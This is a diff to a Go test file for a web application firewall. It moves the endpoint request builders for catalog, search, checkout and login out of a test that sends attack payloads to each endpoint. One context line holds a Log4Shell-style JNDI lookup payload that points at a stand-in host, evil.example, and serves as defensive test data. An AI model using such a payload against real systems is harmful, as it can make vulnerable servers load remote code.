@@ -226,37 +226,41 @@ var payloads = []struct{ class, value string }{
 	{"protocol attack", "${jndi:ldap://evil.example/a}"},
 }
 
-// TestEveryAttackClassOnEveryEndpoint sends every payload to catalog (query), search (query),
-// checkout (JSON and form body) and login (JSON and form body): all must be blocked.
+// endpoints are the fields a shopper controls on each of catalog and search (query), checkout
+// and login (JSON and form bodies), each building a request that carries v there.
+var endpoints = []struct {
+	name  string
+	build func(v string) request
+}{
+	{"catalog", func(v string) request {
+		return request{method: "GET", target: "/api/v1/products?category=" + q(v) + "&limit=20"}
+	}},
+	{"search", func(v string) request { return request{method: "GET", target: "/api/v1/search?q=" + q(v)} }},
+	{"checkout json", func(v string) request {
+		return request{method: "POST", target: "/api/v1/checkout", contentType: jsonType,
+			body: `{"cart_id":"c_01HZX","email":"a@example.com","shipping_address":{"name":` + js(v) + `,"line1":"1 High St","city":"Leeds","postal_code":"LS1","country":"GB"}}`}
+	}},
+	{"checkout form", func(v string) request {
+		return request{method: "POST", target: "/checkout", contentType: formType, body: "name=" + q(v) + "&line1=1+High+St"}
+	}},
+	{"login json", func(v string) request {
+		return request{method: "POST", target: "/api/v1/auth/login", contentType: jsonType, body: `{"email":` + js(v) + `,"password":"x"}`}
+	}},
+	{"login form", func(v string) request {
+		return request{method: "POST", target: "/account/login", contentType: formType, body: "email=" + q(v) + "&password=x"}
+	}},
+}
+
+// js quotes v as a JSON string.
+func js(v string) string {
+	b, _ := json.Marshal(v)
+	return string(b)
+}
+
+// TestEveryAttackClassOnEveryEndpoint sends every payload to every endpoint: all must be blocked.
 func TestEveryAttackClassOnEveryEndpoint(t *testing.T) {
 	t.Parallel()
 	h := testWAF(t, Block, nil).Wrap(echo)
-	js := func(v string) string {
-		b, _ := json.Marshal(v)
-		return string(b)
-	}
-	endpoints := []struct {
-		name  string
-		build func(v string) request
-	}{
-		{"catalog", func(v string) request {
-			return request{method: "GET", target: "/api/v1/products?category=" + q(v) + "&limit=20"}
-		}},
-		{"search", func(v string) request { return request{method: "GET", target: "/api/v1/search?q=" + q(v)} }},
-		{"checkout json", func(v string) request {
-			return request{method: "POST", target: "/api/v1/checkout", contentType: jsonType,
-				body: `{"cart_id":"c_01HZX","email":"a@example.com","shipping_address":{"name":` + js(v) + `,"line1":"1 High St","city":"Leeds","postal_code":"LS1","country":"GB"}}`}
-		}},
-		{"checkout form", func(v string) request {
-			return request{method: "POST", target: "/checkout", contentType: formType, body: "name=" + q(v) + "&line1=1+High+St"}
-		}},
-		{"login json", func(v string) request {
-			return request{method: "POST", target: "/api/v1/auth/login", contentType: jsonType, body: `{"email":` + js(v) + `,"password":"x"}`}
-		}},
-		{"login form", func(v string) request {
-			return request{method: "POST", target: "/account/login", contentType: formType, body: "email=" + q(v) + "&password=x"}
-		}},
-	}
 	for _, p := range payloads {
 		for _, e := range endpoints {
 			rq := e.build(p.value)
